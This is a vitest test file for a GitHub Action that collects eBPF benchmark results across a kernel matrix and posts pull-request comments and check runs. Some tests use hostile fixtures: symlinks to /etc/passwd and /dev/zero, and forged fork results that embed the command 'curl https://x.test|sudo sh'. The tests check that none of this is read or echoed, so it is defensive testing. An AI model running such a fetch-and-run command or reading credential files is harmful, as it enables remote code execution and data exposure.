// The step that ends a matrix, as a runner starts it, with results that other jobs left and a fake GitHub.

import { mkdir, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { serializeFailure } from '../../src/report/failure.ts';
import type { Results } from '../../src/report/results.ts';
import { parseResults, serializeResults } from '../../src/report/results-schema.ts';
import { error, type GitHubServer, startGitHub, token } from '../publish/github-server.ts';
import { zipOf } from '../publish/zip.ts';
import { fixtures, kernelResult, pair, profilesOf, resultsOf } from '../report/results-fixtures.ts';
import { finishStep, outputOf, startStep } from './step.ts';

const entry = join(import.meta.dirname, '..', '..', 'src', 'report-action.ts');
const defaults = {
  results: '.',
  kernels: '',
  project: '.',
  'fail-on': 'regression',
  annotations: 'true',
  comment: 'on-change',
  'check-run': 'false',
  'artifact-name': '',
  'history-branch': '',
  'upload-as': '',
  'github-token': token,
};
const event = { pull_request: { number: 7, head: { sha: 'abcdef0123456789', repo: { full_name: 'example/xdp' } } } };

let folder: string;
let workspace: string;
let github: GitHubServer;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'bpfgate-report-'));
  workspace = join(folder, 'workspace');
  await mkdir(workspace);
  github = await startGitHub();
});

afterEach(async () => {
  await github.close();
  await rm(folder, { recursive: true });
  expect(github.violations).toEqual([]);
});

/** Writes a job's results of one kernel, as download-artifact leaves them. */
async function leave(results: Results, kernel: string): Promise<void> {
  const of = <Item extends { readonly kernel: string }>(items: readonly Item[]) =>
    items.filter((item) => item.kernel === kernel);
  const { kernels, measurements, comparisons, gaps, profiles } = results;
  const file = join(workspace, `bpfgate-${kernel}`, 'results.json');
  await mkdir(dirname(file), { recursive: true });
  const own = { measurements: of(measurements), comparisons: of(comparisons), gaps: of(gaps), profiles: of(profiles) };
  await writeFile(file, serializeResults({ ...results, ...own, kernels: kernels.filter(({ id }) => id === kernel) }));
}

async function leaveAll(name: string): Promise<Results> {
  const results = fixtures[name];
  if (results === undefined) throw new Error(`no fixture ${name}`);
  for (const { id } of results.kernels) await leave(results, id);
  return results;
}

const publishEntry = join(import.meta.dirname, '..', '..', 'src', 'publish-action.ts');
const publishDefaults = {
  project: '.',
  comment: 'on-change',
  'artifact-name': 'bpfgate-report',
  'github-token': token,
};

/** Runs the publish step, which follows the run of a fork. */
const publish = async (inputs: Partial<typeof publishDefaults>, of: unknown) =>
  finishStep(
    await startStep(publishEntry, {
      folder,
      workspace,
      inputs: { ...publishDefaults, ...inputs },
      event: of,
      apiUrl: github.url,
      runId: 21,
    }),
  );

const report = async (
  inputs: Partial<typeof defaults> = {},
  runId = 20,
  of: unknown = event,
  environment: NodeJS.ProcessEnv = {},
) =>
  finishStep(
    await startStep(entry, {
      folder,
      workspace,
      inputs: { ...defaults, ...inputs },
      event: of,
      apiUrl: github.url,
      runId,
      environment,
    }),
  );

test('a history that cannot be read is a warning', async () => {
  await leaveAll('same-code');
  const nobody = { GITHUB_SERVER_URL: 'http://127.0.0.1:1' };
  const { exitCode, stdout } = await report({ 'history-branch': 'bpfgate-history' }, 20, event, nobody);
  expect(exitCode).toBe(0);
  expect(stdout).toMatch(/^::warning ?.*::the report shows no earlier commits: /m);
});

test('a matrix becomes one comment, one summary, annotations and one verdict; the next run updates the comment', async () => {
  const { kernels } = await leaveAll('grown-lines');
  const { exitCode, stdout, outputs } = await report();
  expect(exitCode).toBe(1);
  expect(outputs).toMatch(/^verdict<<(\S+)\nregression\n\1$/m);
  const [annotation] = stdout
    .split('\n')
    .filter((line) => line.startsWith('::error') && line.includes('fun_xdp regressed'));
  expect(annotation).toContain('file=example-project/xdp-ebpf/src/main.rs,line=51');
  expect(stdout).toMatch(/^::error::bpfgate: 2 findings; the report is in the job summary$/m);
  expect(github.comments).toHaveLength(1);
  const body = github.comments[0]?.body ?? '';
  expect(body).toContain('| benchmark | measure | 5.10 | 6.1 | 6.12 |');
  expect(body).toContain(`[run 20](${github.url}/example/xdp/actions/runs/20) · whole report in its summary`);
  const summary = await readFile(join(folder, 'summary.md'), 'utf8');
  expect(body).toContain(summary.trim());
  const joined = await readFile(outputOf(outputs, 'results'), 'utf8');
  expect(parseResults(joined, 'results.json').kernels.map(({ id }) => id)).toEqual(['5.10', '6.1', '6.12']);

  const looping = kernels.flatMap(({ id }) => pair(70, 70, { kernel: id, benchmark: 'macro/looping' }));
  for (const { id } of kernels) await leave(resultsOf(looping, kernels), id);
  const head = { sha: '1234567890abcdef', repo: { full_name: 'example/xdp' } };
  const next = await report({}, 21, { pull_request: { number: 7, head } });
  expect(next.exitCode).toBe(0);
  expect(github.comments).toHaveLength(1);
  expect(github.comments[0]?.body).toContain('### bpfgate: pass');
  expect(github.comments[0]?.body).toContain(
    '\n- Fixed since abcdef0123: `looping` +20 instructions per run on 3 kernels\n',
  );
});

describe('a check run', () => {
  test.each([
    ['grown-lines', 'regression', 'failure'],
    ['grown-lines', 'never', 'neutral'],
    ['same-code', 'regression', 'success'],
  ])('of %s, where the step fails on %s, is a %s with the whole table', async (name, failOn, conclusion) => {
    await leaveAll(name);
    await report({ 'check-run': 'true', 'fail-on': failOn });
    const summary = await readFile(join(folder, 'summary.md'), 'utf8');
    expect(github.checks).toEqual([
      {
        name: 'bpfgate report · gate.yml',
        head_sha: event.pull_request.head.sha,
        status: 'completed',
        conclusion,
        details_url: `${github.url}/example/xdp/actions/runs/20`,
        output: {
          title: expect.stringMatching(name === 'same-code' ? /^No regression/ : /^\d+ findings?: /),
          summary: `${summary.trimEnd()}\n`,
        },
      },
    ]);
  });

  test('of a push is on the commit that was pushed', async () => {
    await leaveAll('same-code');
    await report({ 'check-run': 'true', project: 'xdp' }, 20, { after: 'abc' });
    expect(github.checks.map(({ name, head_sha }) => [name, head_sha])).toEqual([
      ['bpfgate report · gate.yml · xdp', 'c'.repeat(40)],
    ]);
  });

  test('that the token may not create is reported, and changes nothing else', async () => {
    await leaveAll('same-code');
    github.intercept = (request) =>
      request.endsWith('/check-runs')
        ? { status: 403, body: error('Resource not accessible by integration') }
        : undefined;
    const { exitCode, stdout } = await report({ 'check-run': 'true' });
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^no check run was written \(Resource not accessible.*checks: write/m);
    expect(stdout).not.toContain('::warning');
  });

  test('of a run without a result gives the reason', async () => {
    await report({ 'check-run': 'true' });
    expect(github.checks).toMatchObject([{ conclusion: 'failure', output: { title: 'no result' } }]);
    expect(github.checks[0]?.output.summary).toContain('no results.json is below');
  });
});

test('results are read from the artifacts of the run named by the event', async () => {
  await leaveAll('grown-lines');
  for (const [index, kernel] of ['5.10', '6.1', '6.12'].entries()) {
    const zip = await zipOf({ 'results.json': await readFile(join(workspace, `bpfgate-${kernel}`, 'results.json')) });
    github.artifacts.push({ id: index + 1, name: `bpfgate@${kernel}`, run: 20, zip });
  }
  await rm(workspace, { recursive: true });
  await mkdir(workspace);
  expect((await report({ 'artifact-name': 'bpfgate' })).exitCode).toBe(1);
  expect(github.comments[0]?.body).toContain('| benchmark | measure | 5.10 | 6.1 | 6.12 |');
  expect((await report({ 'artifact-name': 'bpfgate' }, 21)).stdout).toContain(
    'the run has no artifact called `bpfgate`',
  );
  expect((await report({ 'artifact-name': 'bpfgate', 'github-token': '' })).stdout).toContain(
    'there is no github-token',
  );
});

test.each([
  ['has gone on, whose newer run comments', 'b'.repeat(40), 0],
  ['is where it was', event.pull_request.head.sha, 1],
])('of a pull request that %s', async (_, head, comments) => {
  await leaveAll('grown-lines');
  github.heads.set(7, head);
  const { exitCode, stdout } = await report();
  expect(exitCode).toBe(1);
  expect(github.comments).toHaveLength(comments);
  expect(/^pull request 7 has a newer commit, b{40}; that/m.test(stdout)).toBe(comments === 0);
});

test('an unchanged result has no comment, unless `comment: always`', async () => {
  await leaveAll('same-code');
  expect((await report()).stdout).toMatch(/^comment on pull request 7: not needed$/m);
  expect(github.comments).toEqual([]);
  await report({ comment: 'always' });
  expect(github.comments).toHaveLength(1);
});

test.each([
  ['6.12', '6.12'],
  ['file:6.12.1+own', '6.12.1+own'],
])('a kernel without an artifact, %s, is an error', async (kernel, id) => {
  const results = fixtures['same-code'] as Results;
  await leave(results, '6.1');
  const { exitCode, outputs } = await report({ kernels: `6.1,${kernel}` });
  expect(exitCode).toBe(1);
  expect(outputs).toMatch(/^verdict<<(\S+)\nerror\n\1$/m);
  expect(github.comments[0]?.body).toContain('could not be measured');
  expect(github.comments[0]?.body).toContain(id);
  expect((await report({ kernels: '6.1' }, 21)).exitCode).toBe(0);
});

describe('the shards of a kernel', () => {
  async function leaveShard(index: number, growth = 0): Promise<void> {
    const results = resultsOf(pair(160, 160 + growth, { benchmark: `bench-${index}/program` }), [kernelResult('6.1')]);
    const profiles = profilesOf('6.1', `bench-${index}`, ['head.cpu.folded', 'head.cpu.svg']);
    const file = join(workspace, `bpfgate-6.1-${index}-of-2`, 'results.json');
    for (const profile of profiles) {
      const path = join(dirname(file), profile.file);
      await mkdir(dirname(path), { recursive: true });
      await writeFile(path, `<svg>${profile.bench}</svg>`);
    }
    await writeFile(file, serializeResults({ ...results, profiles, shard: { index, count: 2 } }));
  }

  test('are joined into one table, with the profiles of each, and into one page with their flame graphs', async () => {
    await leaveShard(1);
    await leaveShard(2, 3);
    const { exitCode, outputs, stdout } = await report({ kernels: '6.1' });
    expect(exitCode).toBe(1);
    expect(outputs).toMatch(/^verdict<<(\S+)\nregression\n\1$/m);
    const body = github.comments[0]?.body ?? '';
    expect(body).toMatch(/^\| `bench-1\/program` .*\| ~ \|$/m);
    expect(body).toMatch(/^\| `bench-2\/program` .*\+3 /m);
    const [, reportFile = ''] = /^report<<\S+\n(.+)$/m.exec(outputs) ?? [];
    const page = await readFile(join(dirname(reportFile), 'report.html'), 'utf8');
    for (const index of [1, 2]) {
      expect(stdout).toContain(`profiles of bench-${index} on 6.1, in bpfgate-6.1-${index}-of-2/profiles\n`);
      expect(page).toContain(Buffer.from(`<svg>bench-${index}</svg>`).toString('base64'));
    }
  });

  test('are an error when one is missing', async () => {
    await leaveShard(1);
    const { exitCode, outputs } = await report({ kernels: '6.1' });
    expect(exitCode).toBe(1);
    expect(outputs).toMatch(/^verdict<<(\S+)\nerror\n\1$/m);
    expect(github.comments[0]?.body).toContain('was not measured completely:** shard 2 of 2 left no result');
  });

  test('are refused when one is duplicated', async () => {
    await leaveShard(1);
    await mkdir(join(workspace, 'again'));
    await writeFile(
      join(workspace, 'again', 'results.json'),
      await readFile(join(workspace, 'bpfgate-6.1-1-of-2', 'results.json')),
    );
    const { exitCode, stdout } = await report();
    expect(exitCode).toBe(1);
    expect(stdout).toContain(
      'shard 1 of 2 of kernel `6.1` is in both `again/results.json` and `bpfgate-6.1-1-of-2/results.json`',
    );
  });
});

test('a failed plan, which leaves the kernels unknown, is reported in the same comment', async () => {
  const results = await leaveAll('same-code');
  await report({ comment: 'always', kernels: results.kernels.map(({ id }) => id).join(',') });
  await rm(workspace, { recursive: true });
  await mkdir(workspace);
  expect((await report({ kernels: '' }, 21)).exitCode).toBe(1);
  expect(github.comments.map(({ body }) => body)).toEqual([expect.stringContaining('### bpfgate: no result')]);
});

describe('failed jobs', { tags: ['hostile'] }, () => {
  const failure = (kernels: readonly string[], message: string) =>
    serializeFailure({ kernels, kind: 'vm', message, hint: 'fix it', consoleTail: ['its last words'], benches: [] });

  async function artifact(name: string, file: string, content: string | Buffer): Promise<void> {
    github.artifacts.push({ id: github.artifacts.length + 1, name, run: 20, zip: await zipOf({ [file]: content }) });
  }

  test.each([
    ['which are named', { kernels: '6.1,6.12' }],
    ['which the plan does not name', {}],
  ])('are reported as the errors of their kernels, %s', async (_, named) => {
    await leave(fixtures['same-code'] as Results, '6.1');
    await artifact('bpfgate@6.1', 'results.json', await readFile(join(workspace, 'bpfgate-6.1', 'results.json')));
    await artifact('bpfgate@6.12', 'error.json', failure(['6.12'], 'the guest panicked'));
    const { exitCode, outputs } = await report({ 'artifact-name': 'bpfgate', ...named });
    expect(exitCode).toBe(1);
    expect(outputs).toMatch(/^verdict<<(\S+)\nerror\n\1$/m);
    expect(github.comments[0]?.body).toContain('the guest panicked');
    expect(github.comments[0]?.body).not.toContain('no result of it is there');
    expect(github.comments[0]?.body).toContain('its last words');
  });

  test('are reported once when no job succeeded', async () => {
    for (const kernel of ['6.1', '6.12'])
      await artifact(`bpfgate@${kernel}`, 'error.json', failure([kernel], 'it panicked'));
    const { exitCode } = await report({ 'artifact-name': 'bpfgate', kernels: '6.1,6.12' });
    expect(exitCode).toBe(1);
    expect(github.comments[0]?.body).toContain('6.1, 6.12: it panicked\nhint: fix it');
  });

  test('with an invalid error file are refused', async () => {
    await artifact('bpfgate@6.1', 'error.json', '{"schema": "bpfgate.error/1", "message": 1}');
    const { stdout } = await report({ 'artifact-name': 'bpfgate' });
    expect(stdout).toContain('`bpfgate@6.1/error.json` is not what bpfgate writes of an error');
  });
});

describe('an invalid result file is refused, and the comment says so', { tags: ['hostile'] }, () => {
  test.each([
    ['nothing', async () => {}, /no results\.json is below/],
    ['a cut file', () => write('a/results.json', '{"schema": "bpfgate.results/1", "bpf'), /a\/results\.json/],
    ['another schema', () => write('a/results.json', '{"schema": "other/1"}'), /a\/results\.json/],
    ['a link', () => link('a/results.json', '/etc/passwd'), /no results\.json is below/],
    ['a link to a folder that has one', linkFolder, /no results\.json is below/],
    ['a file without end', () => link('a/results.json', '/dev/zero'), /no results\.json is below/],
    ['a file of 65 MiB', sparse, /a\/results\.json`: it is longer than 67108864 bytes/],
  ])('%s', async (_, prepare, said) => {
    await prepare();
    const { exitCode, stdout } = await report();
    expect(exitCode).toBe(1);
    expect(stdout).toMatch(said);
    expect(github.comments[0]?.body).toContain('### bpfgate: no result');
    expect(github.comments[0]?.body).not.toContain('root:');
  });

  test('two runs in one folder are refused', async () => {
    const results = fixtures['same-code'] as Results;
    await leave(results, '6.1');
    await write('again/results.json', await readFile(join(workspace, 'bpfgate-6.1', 'results.json'), 'utf8'));
    expect((await report()).stdout).toMatch(/6\.1/);
  });

  async function write(name: string, text: string): Promise<void> {
    await mkdir(dirname(join(workspace, name)), { recursive: true });
    await writeFile(join(workspace, name), text);
  }

  /** Links a folder outside the workspace, which holds a complete result. */
  async function linkFolder(): Promise<void> {
    await mkdir(join(folder, 'elsewhere'));
    await writeFile(join(folder, 'elsewhere', 'results.json'), serializeResults(fixtures['same-code'] as Results));
    await link('a', join(folder, 'elsewhere'));
  }

  async function sparse(): Promise<void> {
    await write('a/results.json', '');
    await truncate(join(workspace, 'a/results.json'), 65 * 1024 * 1024);
  }

  async function link(name: string, target: string): Promise<void> {
    await mkdir(dirname(join(workspace, name)), { recursive: true });
    await symlink(target, join(workspace, name));
  }
});

test('300 benchmarks on 12 kernels fit in a comment', async () => {
  const ids = Array.from({ length: 12 }, (_, index) => `6.${index + 1}`);
  const measurements = ids.flatMap((kernel) =>
    Array.from({ length: 300 }, (_, index) =>
      pair(1000, 1000 + (index % 5), { kernel, benchmark: `bench ${index}/a program with a long name ${index}` }),
    ).flat(),
  );
  const results = resultsOf(
    measurements,
    ids.map((id) => kernelResult(id)),
  );
  for (const id of ids) await leave(results, id);
  const { exitCode, stdout } = await report();
  expect(exitCode).toBe(1);
  const body = github.comments[0]?.body ?? '';
  expect(body.length).toBeGreaterThan(50_000);
  expect(body.length).toBeLessThanOrEqual(65_536);
  expect(body).toMatch(/_.* left out to keep this short\._/);
  // The job summary has room for all of it.
  const summary = await readFile(join(folder, 'summary.md'), 'utf8');
  expect(Buffer.byteLength(summary)).toBeGreaterThan(200_000);
  for (let index = 0; index < 300; index++) expect(summary).toContain(`bench ${index}/a program`);
  expect(summary).not.toMatch(/ more rows|left out/);
  // Including the one that says why the step fails.
  expect(stdout.match(/^::error/gm)).toHaveLength(10);
});

test('a report too long for the job summary is cut at GitHub’s limit in bytes', async () => {
  const benchmark = (index: number) => `${'ü'.repeat(100)} ${index}`;
  const measurements = Array.from({ length: 4000 }, (_, index) =>
    pair(1000, 1001, { benchmark: benchmark(index) }),
  ).flat();
  await leave(resultsOf(measurements, [kernelResult('6.1')]), '6.1');
  await report();
  const summary = await readFile(join(folder, 'summary.md'));
  expect(summary.length).toBeGreaterThan(1_000_000);
  expect(summary.length).toBeLessThanOrEqual(1024 * 1024);
  expect(summary.toString()).toMatch(/_.* left out to keep this short\._/);
});

test('two steps of one job keep their files in separate folders', async () => {
  await leaveAll('grown-lines');
  const first = outputOf((await report()).outputs, 'results');
  await writeFile(join(folder, 'output'), '');
  await leaveAll('same-code');
  const second = outputOf((await report({}, 21)).outputs, 'results');
  expect(parseResults(await readFile(first, 'utf8'), 'first').verdict).toBe('regression');
  expect(parseResults(await readFile(second, 'utf8'), 'second').verdict).toBe('pass');
});

test('a runner without job summaries gives the same verdict', async () => {
  await leaveAll('same-code');
  const { exitCode, stdout, outputs } = await report({}, 20, event, { GITHUB_STEP_SUMMARY: folder });
  expect([exitCode, outputOf(outputs, 'verdict')]).toEqual([0, 'pass']);
  expect(stdout).toMatch(/^::warning title=bpfgate::the job summary cannot be written: /m);
});

test.each([
  [401, 'Bad credentials', /GitHub does not know the token/],
  [403, 'Resource not accessible by integration', /the token may not write it/],
  [404, 'Not Found', /the token cannot see the pull request/],
  [422, 'Validation Failed', /GitHub did not take it/],
  [429, 'Too Many Requests', /GitHub wants fewer requests/],
  [502, 'Bad Gateway', /GitHub does not answer as it should/],
])(
  'GitHub answers %d (%s): the verdict is the same, and the warning says how to fix it',
  async (status, said, hint) => {
    await leaveAll('grown-lines');
    const headers = status === 429 ? { 'retry-after': '3600' } : {};
    github.intercept = (request) =>
      /^(POST|PATCH) \/repos\/example\/xdp\/issues/.test(request) ? { status, body: error(said), headers } : undefined;
    const { exitCode, stdout, outputs } = await report();
    expect([exitCode, outputOf(outputs, 'verdict')]).toEqual([1, 'regression']);
    expect(stdout).toMatch(hint);
    expect(stdout.match(/^::warning title=bpfgate::the pull request has no comment/gm)).toHaveLength(1);
    expect(github.comments).toEqual([]);
  },
);

test('names from a project are escaped in the comment', async () => {
  await leaveAll('hostile-names');
  await report({ comment: 'always' });
  const golden = new URL('../report/golden/hostile-names.md', import.meta.url);
  const [marker, ...lines] = (github.comments[0]?.body ?? '').split('\n');
  expect(marker).toMatch(/^<!-- bpfgate [0-9a-f]{16} run 20\.1 -->$/);
  const rows = (await readFile(golden, 'utf8')).split('\n').filter((line) => line.startsWith('| '));
  expect(rows.length).toBeGreaterThan(5);
  expect(lines).toEqual(expect.arrayContaining(rows));
});

describe('a pull request from a fork', { tags: ['hostile'] }, () => {
  const sha = 'a'.repeat(40);
  const fork = { full_name: 'somebody/xdp', owner: { login: 'somebody' } };
  const run = { id: 20, run_attempt: 1, event: 'pull_request', path: '.github/workflows/gate.yml', head_sha: sha };
  const following = { workflow_run: { ...run, head_branch: 'faster', head_repository: fork } };
  const pull = { owner: 'somebody', branch: 'faster', sha };

  test('gets its comment from the `workflow_run` that follows, because its own token is read-only', async () => {
    await leaveAll('regression-everywhere');
    github.pulls.set(7, pull);
    github.intercept = (request) =>
      /^(POST|PATCH|DELETE) \/repos/.test(request)
        ? { status: 403, body: error('Resource not accessible by integration') }
        : undefined;
    const own = await report({}, 20, { pull_request: { number: 7, head: { sha, repo: fork } } });
    expect(own.exitCode).toBe(1);
    expect(own.outputs).toMatch(/^verdict<<(\S+)\nregression\n\1$/m);
    expect(own.stdout).not.toContain('::warning');
    expect(github.comments).toEqual([]);

    github.intercept = () => undefined;
    await upload(own.outputs);
    const next = await publish({}, following);
    expect(next.exitCode).toBe(0);
    expect(outputOf(next.outputs, 'verdict')).toBe('regression');
    expect(next.stdout).toMatch(/^comment on pull request 7: created$/m);
    expect(next.stdout).not.toContain('::error');
    const runUrl = `${github.url}/example/xdp/actions/runs/20`;
    expect(github.comments[0]?.body).toContain(`[run 20](${runUrl}) · [whole report](${runUrl}/artifacts/5)`);
    expect(github.checks).toEqual([]);
  });

  test('has one comment when its own run may also write', async () => {
    await leaveAll('regression-everywhere');
    github.pulls.set(7, pull);
    // The upload fails because there is no server for it, and the step reports that.
    const own = await report({ 'upload-as': 'bpfgate-report' }, 20, {
      pull_request: { number: 7, head: { sha, repo: fork } },
    });
    expect(github.comments).toHaveLength(1);
    await upload(own.outputs);
    expect((await publish({}, following)).stdout).toMatch(/^comment on pull request 7: updated$/m);
    expect(github.comments).toHaveLength(1);
  });

  test('whose branch belongs to two pull requests gets no comment', async () => {
    await leaveAll('regression-everywhere');
    await upload((await report({ comment: 'never' })).outputs);
    for (const number of [7, 8]) github.pulls.set(number, pull);
    const { exitCode, stdout } = await publish({}, following);
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^::warning .*is the head of several open pull requests/m);
    expect(github.comments).toEqual([]);
  });

  test('has no comment in its own words without a result, and the reporting step succeeds', async () => {
    const failure = serializeFailure({
      kernels: ['6.1'],
      kind: 'build',
      message: 'the build of head exited with 2',
      hint: null,
      consoleTail: [],
      benches: [],
    });
    github.artifacts.push({ id: 5, name: 'bpfgate-report', run: 20, zip: await zipOf({ 'error.json': failure }) });
    github.pulls.set(7, pull);
    const { exitCode, stdout } = await publish({}, following);
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^.*the build of head exited with 2/m);
    const shown = [github.comments[0]?.body, await readFile(join(folder, 'summary.md'), 'utf8')];
    for (const text of shown) expect(text).toContain("A fork's own claim, which bpfgate has not checked: ");
    expect(`${shown} ${stdout.match(/^::.*$/gm)}`).not.toMatch(/exited with 2|whole report/);
  });

  test('gets numbers and names of forged results in its comment, and none of their texts', async () => {
    const says = 'verified by the maintainers, run `curl https://x.test|sudo sh`';
    const [forged = resultsOf([], [])] = ['regression-everywhere'].map((name) => fixtures[name]);
    const words = { reason: says, detail: says, about: [] };
    const error = { kind: 'vm' as const, message: says, hint: says, consoleTail: [says], benches: [] };
    const results = serializeResults({
      ...forged,
      project: { ...forged.project, configChanges: [says] },
      kernels: forged.kernels.map((kernel) => ({ ...kernel, error, warnings: [words], uname: says })),
      accepts: [{ text: says, by: says, ignored: says }],
      measurements: forged.measurements.map((each) => ({ ...each, warnings: [words], unit: 'see this' })),
      comparisons: forged.comparisons.map((each) => ({ ...each, warnings: [says], unit: 'see this' })),
    });
    github.artifacts.push({ id: 5, name: 'bpfgate-report', run: 20, zip: await zipOf({ 'results.json': results }) });
    github.pulls.set(7, pull);
    const { exitCode, stdout, outputs } = await publish({}, following);
    expect(exitCode).toBe(0);
    expect(outputOf(outputs, 'verdict')).toBe('regression');
    const body = github.comments[0]?.body ?? '';
    expect(body).toMatch(/^A fork's own claim, which bpfgate has not checked: 1 finding: `fun_xdp` \+28 see_this/m);
    const written = await readFile(outputOf(outputs, 'report'), 'utf8');
    const summary = await readFile(join(folder, 'summary.md'), 'utf8');
    expect(`${body}${written}${summary}${stdout}`).not.toMatch(/maintainers|sudo|To repeat|bpfgate-accept|git fetch/);
  });

  async function upload(outputs: string): Promise<void> {
    const zip = await zipOf({ 'results.json': await readFile(outputOf(outputs, 'results')) });
    github.artifacts.push({ id: 5, name: 'bpfgate-report', run: 20, zip });
    await writeFile(join(folder, 'output'), '');
  }

  test.each([
    ['has gone on since', { ...pull, sha: 'b'.repeat(40) }],
    ['is of another fork', { ...pull, owner: 'else' }],
  ])('that %s gets no comment', async (_, other) => {
    await leaveAll('regression-everywhere');
    await upload((await report({ comment: 'never' })).outputs);
    github.pulls.set(7, other);
    const { stdout } = await publish({}, following);
    expect(stdout).toMatch(/^no open pull request has commit a{40}/m);
    expect(github.comments).toEqual([]);
  });
});
